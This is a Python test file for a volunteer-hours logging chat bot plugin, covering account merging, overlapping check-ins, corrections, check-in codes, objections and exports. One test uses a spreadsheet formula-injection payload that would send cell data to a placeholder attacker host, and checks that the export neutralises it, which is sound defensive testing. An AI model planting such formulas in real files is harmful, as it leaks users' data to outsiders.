"""Defects found in review of service_log: linking accounts, double credit, corrections, check-in codes,
settings a community may not change, exports, late objections, registration and future time ranges."""

from __future__ import annotations

from datetime import timedelta
from decimal import Decimal

from core.identity import User
from core.testing import Harness
from plugins.service_log import member_data
from plugins.service_log.models import Attendance, CodeAttempt, Record, RecordStatus, Team, Volunteer
from tests.plugins.service_log.conftest import Hear


async def _user_id(name: str) -> int:
    return (await User.get(display_name=name)).id


async def test_linking_accounts_sends_hours_approved_by_the_other_account_back_to_review(red: Harness) -> None:
    h = red
    await h.send("张三", "/记录时长 2 敲门")
    await h.send("刘主任", "/approve 1")
    liu, zhang = await _user_id("刘主任"), await _user_id("张三")
    await member_data.merge_users(liu, zhang)  # 刘主任 turns out to be 张三's second account
    record = await Record.get(id=1)
    assert (record.status, record.user_id, record.approved_by) == (RecordStatus.PENDING, zhang, None)
    assert "账号已合并：曾由本人的另一个账号审核" in await h.say("王书记", "/pending")
    h.clock.advance(timedelta(days=7))
    await h.run_jobs()
    assert (await Record.get(id=1)).status is RecordStatus.PENDING, "it never becomes final unreviewed"


async def test_linking_accounts_moves_who_recorded_and_approved_and_leads(red: Harness) -> None:
    h = red
    await h.send("李四", "/记录时长 2 敲门")
    await h.send("刘主任", "/approve 1")
    liu, zhang = await _user_id("刘主任"), await _user_id("张三")
    await Team.create(community_id=1, name="一队", leader_user_id=liu, created_at=h.clock())
    await member_data.merge_users(liu, zhang)
    record = await Record.get(id=1)
    assert record.approved_by == zhang and record.status is RecordStatus.PUBLIC, "李四's record stays approved"
    assert (await Team.get(name="一队")).leader_user_id == zhang


async def test_linking_accounts_keeps_the_profile_of_each_community(red: Harness) -> None:
    h = red
    zhang, li = await _user_id("张三"), await _user_id("李四")
    await Volunteer.create(community_id=2, user_id=li, number="00001", real_name="李四B", joined_at=h.clock())
    await member_data.merge_users(li, zhang)
    assert sorted((v.community_id, v.real_name) for v in await Volunteer.filter(user_id=zhang)) == [
        (1, "张三"), (2, "李四B")]
    assert not await Volunteer.filter(user_id=li).exists()


async def test_linking_accounts_checked_in_to_one_activity_keeps_one_attendance(red: Harness) -> None:
    h = red
    zhang, li = await _user_id("张三"), await _user_id("李四")
    await Attendance.create(activity_id=1, community_id=1, user_id=li, checked_in_at=h.clock())
    await Attendance.create(activity_id=1, community_id=1, user_id=zhang, checked_in_at=h.clock())
    await CodeAttempt.create(activity_id=1, user_id=li, failures=3)
    await CodeAttempt.create(activity_id=1, user_id=zhang, failures=2)
    await member_data.merge_users(li, zhang)
    assert [a.user_id for a in await Attendance.all()] == [zhang]
    assert [(a.user_id, a.failures) for a in await CodeAttempt.all()] == [(zhang, 5)]


async def test_nobody_is_credited_twice_for_the_same_time(red: Harness) -> None:
    h = red
    await h.send("王书记", "/config service_log publicity_days 0")
    await h.send("王书记", "/活动 新建 敲门行动 3号楼 11-23 14:00-17:00")
    await h.send("王书记", "/活动 新建 清理楼道 5号楼 11-23 14:00-17:00")
    h.clock.advance(timedelta(hours=4))  # 14:00
    await h.send("张三", "/签到 1")
    assert await h.say("张三", "/签到 2") == "你还在 敲门行动 签到中，请先在那里签退：/签退 1"
    h.clock.advance(timedelta(hours=2))  # 16:00: logs an hour typed in while checked in
    assert (await h.say("张三", "/记录时长 1 巡逻 14:00-15:00")).startswith("📝")
    h.clock.advance(timedelta(minutes=59))
    said = (await h.send("张三", "/签退 1"))[0]  # 14:00-16:59 less the hour 14:00-15:00 already logged
    assert said == "🔴 张三 已签退 敲门行动：#2 2026-11-23 1.9 小时 敲门行动（已生效）。"
    assert (await h.say("张三", "/签到 2")).startswith("🟢"), "after checking out, the other one is open"
    assert [r.hours for r in await Record.all().order_by("id")] == [Decimal("1.0"), Decimal("1.9")]


async def test_a_correction_neither_goes_below_zero_nor_beyond_the_daily_limit(red: Harness) -> None:
    h = red
    await h.send("王书记", "/config service_log publicity_days 0")
    await h.send("张三", "/记录时长 2 敲门")
    await h.send("王书记", "/approve 1")
    assert await h.say("刘主任", "/更正 1 -20 错了") == "记录 #1 连同更正共 2.0 小时，更正不能扣除更多。"
    assert (await h.send("刘主任", "/更正 1 -1.5 多记了"))[0].startswith("更正")
    assert await h.say("刘主任", "/更正 1 -1 还是多") == "记录 #1 连同更正共 0.5 小时，更正不能扣除更多。"
    assert await h.say("刘主任", "/更正 1 +12 少记了") == "这样 2026-11-23 就有 12.5 小时，超过每日上限 12.0 小时。"
    assert [r.hours for r in await Record.all().order_by("id")] == [Decimal("2.0"), Decimal("-1.5")]


async def test_a_check_in_code_is_sent_privately_with_a_few_tries(red: Harness) -> None:
    h = red
    await h.send("王书记", "/活动 新建 清理楼道 5号楼 11-23 10:30-12:00 签到码")
    code = next(m.text for m in h.adapter.sent if "签到码是" in m.text).split("签到码是 ")[1][:6]
    h.clock.advance(timedelta(minutes=40))
    assert (await h.say("张三", f"/签到 1 {code}")).startswith("清理楼道 签到需要现场公布的签到码。请私聊发给我")
    assert not await Attendance.exists(), "a code typed in the group does not check in"
    assert await h.say("张三", "/签到 1", direct=True) == "清理楼道 签到需要现场公布的签到码：/签到 1 加签到码"
    wrong = "000000" if code != "000000" else "111111"
    for _ in range(5):  # the one without a code was not a wrong try
        assert await h.say("张三", f"/签到 1 {wrong}", direct=True) == "这不是活动 #1 的签到码。"
    assert await h.say("张三", f"/签到 1 {code}", direct=True) == (
        "清理楼道 的签到码错误次数太多；请找现场的组织者帮忙。")
    assert (await h.say("李四", f"/签到 1 {code}", direct=True)).startswith("🟢 李四 已签到 清理楼道。")


async def test_what_people_typed_is_exported_as_text_not_as_a_formula(red: Harness) -> None:
    import csv
    import io

    from openpyxl import load_workbook

    from plugins.service_log import exports, reports

    h = red
    await h.send("王书记", "/config service_log publicity_days 0")
    await h.send("张三", "/登记姓名 @张三")
    await h.send("张三", '/记录时长 2 =HYPERLINK("http://evil.example/?x="&A2,"点我")')
    await h.send("王书记", "/approve 1")
    rows = await reports.export_rows(1, h.clock().date() - timedelta(days=2), h.clock().date())
    sheet = load_workbook(io.BytesIO(exports.export(rows, "xlsx"))).active
    assert sheet.cell(row=2, column=9).value == '\'=HYPERLINK("http://evil.example/?x="&A2,"点我")'
    assert sheet.cell(row=2, column=9).data_type == "s"
    assert sheet.cell(row=2, column=3).value == "'@张三"
    assert sheet.cell(row=2, column=6).value == 2.0, "numbers stay numbers"
    table = list(csv.reader(io.StringIO(exports.export(rows, "csv").decode("utf-8-sig"))))
    assert table[1][8].startswith("'=HYPERLINK") and table[1][2] == "'@张三" and table[1][5] == "2.0"


async def test_an_objection_typed_in_the_group_is_refused_with_a_hint(red: Harness) -> None:
    h = red
    await h.send("张三", "/记录时长 2 敲门")
    await h.send("王书记", "/approve 1")
    said = await h.say("李四", "/异议 1 那天他不在")
    assert said == "异议请私聊发送，这样不会公开你的名字：请私聊发给我 /异议 1 <理由>。"
    assert (await Record.get(id=1)).status is RecordStatus.PUBLIC


async def test_nothing_is_objected_to_or_denied_after_the_publication_ended(red: Harness) -> None:
    h = red
    await h.send("张三", "/记录时长 2 敲门")
    await h.send("王书记", "/approve 1")
    record = await Record.get(id=1)
    assert record.public_until is not None
    h.clock.current = record.public_until + timedelta(minutes=1)  # before the sweep runs
    final_refusal = "记录 #1 已生效，不能修改；组织者可以添加更正记录：/更正 1"
    assert await h.say("李四", "/异议 1 迟到的异议", direct=True) == final_refusal
    assert await h.say("刘主任", "/驳回 1 晚了") == final_refusal
    assert (await Record.get(id=1)).status is RecordStatus.PUBLIC
    await h.run_jobs()
    assert (await Record.get(id=1)).status is RecordStatus.FINAL


async def test_a_time_range_that_has_not_ended_is_not_logged(red: Harness) -> None:
    h = red  # 10:00
    assert await h.say("张三", "/记录时长 2 巡逻 今天 9:00-11:00") == "9:00-11:00 还没有结束；服务之后再记录时长。"
    assert (await h.say("张三", "/记录时长 1 巡逻 今天 8:00-9:00")).startswith("📝")
    assert (await h.say("张三", "/记录时长 2 巡逻 昨天 20:00-22:00")).startswith("📝")


async def test_registering_reads_the_name_and_a_team_by_its_name(red: Harness) -> None:
    h = red
    await h.send("王书记", "/服务队 新建 敲门组")
    assert "证明上的姓名为 张三丰" in await h.say("王五", "/注册志愿者 张三丰")
    assert "证明上的姓名为 赵 六" in (said := await h.say("赵六", "/注册志愿者 赵 六 敲门组")) and "敲门组" in said
    assert "证明上的姓名为 钱七" in (said := await h.say("钱七", "/注册志愿者 敲门组")) and "敲门组" in said
    assert [v.real_name for v in await Volunteer.filter(team_id__not_isnull=True).order_by("id")] == ["赵 六", "钱七"]


def test_points_round_half_up_and_away_from_zero_for_corrections() -> None:
    from plugins.service_log.hours import points_for

    assert points_for(Decimal("0.1"), 5) == 1  # 0.5 points
    assert points_for(Decimal("-0.1"), 5) == -1
    assert points_for(Decimal("0.1"), 4) == 0


async def test_english_plurals_for_stars_and_points_taken_off(red: Harness, hear: Hear) -> None:
    h = red
    await h.send("王书记", "/language en")
    await h.send("王书记", "/config service_log publicity_days 0")
    zhang = await _user_id("张三")
    await Record.create(community_id=1, user_id=zhang, kind="entered", status=RecordStatus.FINAL,
                        hours=Decimal("99.0"), what="earlier", day=h.clock().date() - timedelta(days=3),
                        recorded_by=zhang, recorded_at=h.clock(), points=990)
    await h.send("张三", "/log 2 knocking on doors")
    said = await hear(h, "王书记", "/approve 2")
    assert "🌟 张三 ⭐1 has reached 1 star with 101.0 hours of volunteer service. Thank you!" in said
    said = await hear(h, "刘主任", "/correct 2 -0.5 it was 1.5 hours")
    assert any(s.startswith("→ 张三: ✅ Your correction #3") and s.endswith("is final: 5 points are taken off.")
               for s in said), said


async def test_mydata_holds_the_check_ins(red: Harness) -> None:
    import json

    h = red
    await h.send("王书记", "/活动 新建 敲门行动 3号楼 11-23 10:00-12:00")
    await h.send("张三", "/签到 1")
    sent = await h.deliver(h.event("张三", "/mydata"))
    data = json.loads(next(m for m in sent if m.files).files[0].data.decode("utf-8"))
    assert [(a["activity"], a["checked_out_at"]) for a in data["service_log"]["attendances"]] == [(1, None)]
